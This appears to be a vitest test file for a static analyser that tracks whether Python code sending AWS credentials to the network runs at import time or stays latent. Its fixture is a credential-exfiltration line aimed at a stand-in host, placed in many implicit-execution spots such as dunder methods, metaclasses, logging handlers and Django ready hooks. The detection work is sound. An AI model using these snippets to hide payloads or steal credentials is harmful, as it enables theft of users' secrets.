import { expect, test } from 'vitest';
import { read } from './reading.js';

const SENDS = 'urllib.request.urlopen("https://k.example.invalid/", data=open(os.path.expanduser("~/.aws/credentials"), "rb").read())';
const whenIn = async (text: string) => (await read(`import os, urllib.request\n${text.replaceAll('SENDS', SENDS)}\n`)).facts?.flows({ from: 'credentials', to: 'network' }).map(({ when }) => when);

test.each([
  ['a constructor that an heir calls', 'class A:\n    def __init__(self):\n        SENDS\nclass B(A):\n    def __init__(self):\n        super().__init__()\nB()'],
  ['a method that an heir calls of its base', 'class A:\n    def go(self):\n        SENDS\nclass B(A):\n    def go(self):\n        super(B, self).go()\nB().go()'],
  ['a sign before an object', 'class C:\n    def __neg__(self):\n        SENDS\n-C()'],
  ['an object that is added to', 'class C:\n    def __iadd__(self, other):\n        SENDS\n        return self\nc = C()\nc += 1'],
  ['an object in an f-string', 'class C:\n    def __format__(self, how):\n        SENDS\n        return ""\nX = f"{C()}"'],
  ['an object that is rounded', 'class C:\n    def __round__(self, digits=0):\n        SENDS\nround(C())'],
  ['an object that is copied', 'import copy\nclass C:\n    def __deepcopy__(self, memo):\n        SENDS\n        return self\ncopy.deepcopy(C())'],
  ['an object that is a path', 'class C:\n    def __fspath__(self):\n        SENDS\n        return "x"\nos.path.join(C(), "y")'],
  ['an object with a star before it', 'class C:\n    def __iter__(self):\n        SENDS\n        return iter(())\nX = [*C()]'],
  ['an object by its name with a star before it', 'class C:\n    def __iter__(self):\n        SENDS\n        return iter(())\nc = C()\nX = [*c]'],
  ['a class with brackets behind it', 'class C:\n    def __class_getitem__(cls, key):\n        SENDS\n        return cls\nX = C[int]'],
  ['an attribute that answers by itself', 'class D:\n    def __get__(self, holder, owner):\n        SENDS\nclass C:\n    x = D()\nC.x'],
  ['an attribute that takes by itself', 'class D:\n    def __set__(self, holder, value):\n        SENDS\nclass C:\n    x = D()\nC().x = 1'],
  ['a class that makes its objects', 'class M(type):\n    def __call__(cls):\n        SENDS\nclass C(metaclass=M):\n    pass\nC()'],
  ['what a pattern is replaced by', 'import re\ndef f(match):\n    SENDS\n    return ""\nre.sub("a", f, "a")'],
  ['what is asked for each object of JSON', 'import json\ndef f(part):\n    SENDS\n    return part\njson.loads("{}", object_hook=f)'],
  ['what the garbage collector tells', 'import gc\ndef f(phase, info):\n    SENDS\ngc.callbacks.append(f)'],
  ['what shows warnings', 'import warnings\ndef f(*a, **k):\n    SENDS\nwarnings.showwarning = f\nwarnings.warn("x")'],
  ['what is told of every message in the log', 'import logging\nclass F(logging.Filter):\n    def filter(self, record):\n        SENDS\n        return True\nlogging.getLogger().addFilter(F())'],
  ['what writes the log', 'import logging\nclass H(logging.Handler):\n    def emit(self, record):\n        SENDS\nlogging.getLogger(__name__).addHandler(H())'],
  ['what a parser from elsewhere calls', 'import html.parser\nclass P(html.parser.HTMLParser):\n    def handle_data(self, text):\n        SENDS\nP().feed("x")'],
  ['what such a parser has from its own base', 'import html.parser\nclass A(html.parser.HTMLParser):\n    def handle_data(self, text):\n        SENDS\nclass P(A):\n    pass\nP().feed("x")'],
  ['what goes through a tree', 'import ast\nclass V(ast.NodeVisitor):\n    def visit_Name(self, node):\n        SENDS\nV().visit(ast.parse("x"))'],
  ['what Django starts an application with', 'from django.apps import AppConfig\nclass Plot(AppConfig):\n    def ready(self):\n        SENDS'],
  ['a function of arrays', 'import numpy\ndef f(x):\n    SENDS\n    return x\nnumpy.vectorize(f)([1])'],
])('%s runs as soon as the module is imported', async (_, text) => {
  expect(await whenIn(text)).toContain('import');
});

test.each([
  ['a base whose heir is never made', 'class A:\n    def __init__(self):\n        SENDS\nclass B(A):\n    def __init__(self):\n        super().__init__()'],
  ['a constructor that an heir leaves out', 'class A:\n    def __init__(self):\n        SENDS\nclass B(A):\n    def __init__(self):\n        pass\nB()'],
  ['a parser that some function uses', 'import html.parser\nclass P(html.parser.HTMLParser):\n    def handle_data(self, text):\n        SENDS\ndef parsed(text):\n    P().feed(text)'],
  ['a class of another kind with the same method', 'class Plot:\n    def ready(self):\n        SENDS'],
  ['a sign that nothing stands behind', 'class C:\n    def __neg__(self):\n        SENDS\nC()'],
  ['an attribute that nobody asks for', 'class D:\n    def __get__(self, holder, owner):\n        SENDS\nclass C:\n    x = D()\nC()'],
  ['a class that nothing is made of', 'class M(type):\n    def __call__(cls):\n        SENDS\nclass C(metaclass=M):\n    pass'],
])('%s waits for somebody to call it', async (_, text) => {
  expect(await whenIn(text)).toEqual(['latent']);
});

test('a function that is called like a member of every object of JavaScript is no function of Python', async () => {
  const text = `import os, urllib.request\nclass C:\n    pass\nconstructor(C())\ntoString(C())\n${SENDS}\n`;
  for (const runs of ['import', 'install'] as const) expect((await read(text, runs)).facts?.flows({ from: 'credentials', to: 'network' }).map(({ when }) => when)).toEqual([runs]);
});
